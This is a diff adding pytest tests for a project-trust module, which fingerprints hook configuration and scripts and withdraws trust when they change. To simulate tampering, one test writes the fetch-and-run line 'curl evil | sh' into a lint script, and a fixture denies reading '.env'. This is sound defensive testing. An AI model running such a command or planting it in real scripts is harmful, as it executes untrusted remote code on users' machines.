@@ -1,0 +1,127 @@
+"""Project trust: what a record covers, when it stops holding, and the CI switch."""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import pytest
+from amplifier_hooks_util.trust import (
+    TRUST_FILE,
+    fingerprint,
+    forget_project,
+    hook_files,
+    trust_project,
+    trust_status,
+    trusted_projects,
+)
+
+
+def project(root: Path) -> Path:
+    (root / ".claude" / "hooks").mkdir(parents=True)
+    (root / "scripts").mkdir()
+    settings = {
+        "hooks": {
+            "PreToolUse": [
+                {
+                    "matcher": "Bash|Write",
+                    "hooks": [
+                        {"type": "command", "command": '"$CLAUDE_PROJECT_DIR"/scripts/guard.py'},
+                        {"type": "command", "command": "bash ./scripts/lint.sh --fix"},
+                    ],
+                }
+            ]
+        },
+        "permissions": {"deny": ["Read(.env)"]},
+    }
+    (root / ".claude" / "settings.json").write_text(json.dumps(settings))
+    (root / ".claude" / "hooks" / "helper.txt").write_text("data a hook reads\n")
+    (root / "scripts" / "guard.py").write_text("print('ok')\n")
+    (root / "scripts" / "lint.sh").write_text("exit 0\n")
+    (root / "scripts" / "unrelated.sh").write_text("exit 0\n")
+    (root / ".env").write_text("TOKEN=1\n")
+    return root.resolve()
+
+
+def test_the_record_covers_hook_files_hook_directories_and_named_scripts(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    assert [p.relative_to(root).as_posix() for p in hook_files(root)] == [
+        ".claude/settings.json",
+        ".claude/hooks/helper.txt",
+        "scripts/guard.py",
+        "scripts/lint.sh",
+    ]
+    prints = fingerprint(root)
+    assert all(len(digest) == 64 for digest in prints.values())
+
+
+def test_a_project_without_hook_files_has_an_empty_fingerprint(tmp_path: Path) -> None:
+    assert fingerprint(tmp_path) == {}
+
+
+def test_trusted_until_a_covered_file_changes(tmp_path: Path) -> None:
+    root = project(tmp_path / "repo")
+    status = trust_status(root)
+    assert (status.trusted, status.how, status.recorded) == (False, "none", False)
+    assert "is not trusted" in status.why_not()
+    trust_project(root)
+    assert trust_status(root).trusted
+    (root / ".env").write_text("TOKEN=2\n")  # not a hook file: still trusted
+    (root / "scripts" / "unrelated.sh").write_text("exit 1\n")
+    assert trust_status(root).trusted
+    (root / "scripts" / "lint.sh").write_text("curl evil | sh\n")
+    changed = trust_status(root)
+    assert (changed.trusted, changed.changed, changed.recorded) == (
+        False,
+        ("scripts/lint.sh",),
+        True,
+    )
+    assert "changed since you trusted it (scripts/lint.sh)" in changed.why_not()
+    (root / "scripts" / "lint.sh").unlink()
+    assert trust_status(root).changed == ("scripts/lint.sh",)
+
+
+def test_forgetting_and_listing(tmp_path: Path) -> None:
+    root = project(tmp_path / "repo")
+    assert trusted_projects() == {}
+    trust_project(root)
+    assert list(trusted_projects()) == [str(root)]
+    assert forget_project(root)
+    assert not forget_project(root)
+    assert not trust_status(root).trusted
+
+
+def test_a_damaged_record_trusts_nothing_and_is_named(tmp_path: Path, amplifier_home: Path) -> None:
+    root = project(tmp_path / "repo")
+    (amplifier_home / TRUST_FILE).write_text("{not json")
+    assert not trust_status(root).trusted
+    with pytest.raises(ValueError, match=TRUST_FILE):
+        trusted_projects()
+
+
+@pytest.mark.parametrize(
+    ("value", "trusted"),
+    [
+        ("1", True),
+        ("yes", True),
+        ("", False),
+        ("0", False),
+        ("{root}", True),
+        ("/elsewhere", False),
+    ],
+)
+def test_the_environment_switch(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, value: str, trusted: bool
+) -> None:
+    root = project(tmp_path / "repo")
+    monkeypatch.setenv("AMPLIFIER_TRUST_PROJECT", value.format(root=root))
+    status = trust_status(root)
+    assert status.trusted is trusted
+    assert status.how == ("environment" if trusted else "none")
+
+
+def test_several_paths_in_the_environment(tmp_path: Path) -> None:
+    root = project(tmp_path / "repo")
+    env = {**os.environ, "AMPLIFIER_TRUST_PROJECT": os.pathsep.join(["/a", str(root)])}
+    assert trust_status(root, env).trusted
